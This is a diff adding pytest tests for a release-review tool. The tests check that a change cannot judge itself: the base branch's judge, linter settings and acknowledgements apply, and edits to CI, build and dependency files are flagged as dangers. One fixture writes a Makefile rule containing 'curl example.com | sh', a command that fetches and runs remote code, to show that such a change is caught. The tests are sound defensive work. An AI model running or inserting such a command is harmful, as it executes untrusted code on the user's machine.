@@ -1,0 +1,147 @@
+"""A change cannot judge itself: what it brings is files, and the base judges them."""
+
+import copy
+import json
+from datetime import date, timedelta
+
+import pytest
+
+from release.checkouts import Clone
+from release.review.__main__ import main
+from release.review.dangers.found import digest
+from release.review.judge import other_versions
+from tests.unit.release.conftest import commit
+from tests.unit.release.review.conftest import APP, write
+from tests.unit.release.review.resources import RESOURCES
+from tests.unit.release.review.test_main import acknowledge
+
+DANGER = "prod/lost_rollback/prod-text"
+PROGRAM = """
+import pathlib, sys
+out = pathlib.Path(sys.argv[sys.argv.index("--output") + 1])
+(out / "review.md").write_text("judged by the JUDGE")
+raise SystemExit(CODE)
+"""
+
+
+def write_judge(clone: Clone, judge: str, code: int) -> None:
+    for package in ("release", "release/review"):
+        write(clone, f"{package}/__init__.py", "")
+    program = PROGRAM.replace("JUDGE", judge).replace("CODE", str(code))
+    write(clone, "release/review/judge.py", program)
+
+
+def remove_rollback(clone: Clone) -> None:
+    resources = copy.deepcopy(RESOURCES)
+    del resources["Endpoint"]["Properties"]["DeploymentConfig"]
+    write(clone, "assemblies/prod/prod-text.template.json", json.dumps({"Resources": resources}))
+
+
+def keys(clone: Clone) -> dict[str, bool]:
+    """Return the dangers of the review, and whether they are acknowledged."""
+    content = json.loads((clone.root / "review.out" / "review.json").read_text())
+    dangers = [*content["dangers"], *(it for stage in content["stages"] for it in stage["dangers"])]
+    return {it["key"]: it["acknowledged"] is not None for it in dangers}
+
+
+def test_a_change_of_the_judge_does_not_judge_itself(clone: Clone) -> None:
+    write_judge(clone, "base", 3)
+    commit(clone)
+    write_judge(clone, "head", 0)
+    assert main(["--base", "main"]) == 3
+    assert (clone.root / "review.out" / "review.md").read_text() == "judged by the base"
+
+
+def test_a_judge_that_fails_leaves_a_review_that_says_so(clone: Clone) -> None:
+    write_judge(clone, "base", 1)
+    commit(clone)
+    assert main(["--base", "main"]) == 4
+    assert "the judge of the base ended with exit code 1" in (
+        (clone.root / "review.out" / "review.md").read_text()
+    )
+
+
+def test_a_change_cannot_acknowledge_its_own_danger(clone: Clone) -> None:
+    remove_rollback(clone)
+    until = date.today() + timedelta(days=30)
+    line = f"{{ danger: {DANGER}, who: Mallory, why: trust me, until: {until} }}"
+    write(clone, "release/acknowledged.yaml", f"acknowledged: [{line}]\n")
+    assert main(["--base", "main"]) == 3
+    assert keys(clone)[DANGER] is False
+    assert any(
+        it.startswith("repository/changed_judge/release/acknowledged.yaml.") for it in keys(clone)
+    )
+
+
+def test_a_change_of_acknowledgements_alone_is_no_danger(clone: Clone) -> None:
+    clone.git("checkout", "--quiet", "-b", "change")
+    acknowledge(clone, DANGER)
+    assert main(["--base", "main"]) == 0
+
+
+@pytest.mark.parametrize(
+    "path",
+    [
+        *(".cfnlintrc.yaml", ".checkov.yaml", ".ci/run", ".github/CODEOWNERS", "Makefile"),
+        *(".github/workflows/pull-request.yml", ".venv/bin/python", "cdk.json", "new_module.py"),
+        *("package-lock.json", "pyproject.toml", "release/review/dangers/low_minimum.py"),
+        *("release/acknowledged.yaml", "requirements-checkov.txt", "stacks/acknowledged.py"),
+        *("node_modules/aws-cdk/bin/cdk", "tritonsm"),
+    ],
+)
+def test_a_change_of_what_judges_is_a_danger_that_names_the_file(clone: Clone, path: str) -> None:
+    write(clone, "docs/review.md", "another change")
+    write(clone, path, "{}")
+    commit(clone)
+    clone.git("checkout", "--quiet", "-b", "change")
+    write(clone, path, '{"acknowledged": []}')
+    write(clone, "docs/review.md", "changed")
+    assert main(["--base", "main"]) == 3
+    (key,) = keys(clone)
+    assert key.startswith(f"repository/changed_judge/{path}.")
+
+
+def test_acknowledging_a_change_of_the_judge_acknowledges_no_other(clone: Clone) -> None:
+    write(clone, "Makefile", "review: ; true")
+    main(["--base", "main"])
+    (key,) = keys(clone)
+    acknowledge(clone, key)
+    assert main(["--base", "main"]) == 0
+    write(clone, "Makefile", "review: ; curl example.com | sh")
+    assert main(["--base", "main"]) == 3
+
+
+def test_the_linters_have_the_settings_of_the_base(clone: Clone) -> None:
+    write(clone, ".checkov.yaml", "strict")
+    commit(clone)
+    write(clone, ".checkov.yaml", "lax")
+    remove_rollback(clone)
+    write(clone, ".venv-checkov/bin/checkov", '#!/bin/sh\necho "$(cat .checkov.yaml)" >&2\n')
+    main(["--base", "main"])
+    said = (clone.root / "review.out" / "review.md").read_text()
+    assert "checkov ended with exit code 0: strict" in said
+
+
+def test_templates_that_no_rule_can_read_are_a_gap_and_no_silence(clone: Clone) -> None:
+    resources = copy.deepcopy(RESOURCES)
+    resources["Config"]["Properties"] = {"ProductionVariants": "none"}
+    write(clone, "assemblies/prod/prod-text.template.json", json.dumps({"Resources": resources}))
+    assert main(["--base", "main"]) == 4
+    assert "not reviewed" not in APP
+    assert "- **prod**: the review failed: " in (
+        (clone.root / "review.out" / "review.md").read_text()
+    )
+
+
+def test_packages_of_other_versions_than_the_base_pins_are_named(clone: Clone) -> None:
+    write(clone, "requirements.txt", "# comment\nPyYAML==1.0\n    # via x\nno-such-package==1\n")
+    assert other_versions(clone).startswith("PyYAML==1.0, and ")
+    write(clone, "requirements.txt", 'PyYAML==1.0 ; python_version < "3"\npytest>=1 \\\n')
+    assert other_versions(clone) == ""
+
+
+def test_no_two_texts_of_a_danger_have_one_key() -> None:
+    # Of digests of 32 bits, a hundred thousand sentences are enough to find two of one key.
+    keys = {digest(f"a role may now s3:{number}") for number in range(200_000)}
+    assert len(keys) == 200_000
+    assert min(map(len, keys)) * 4 >= 128
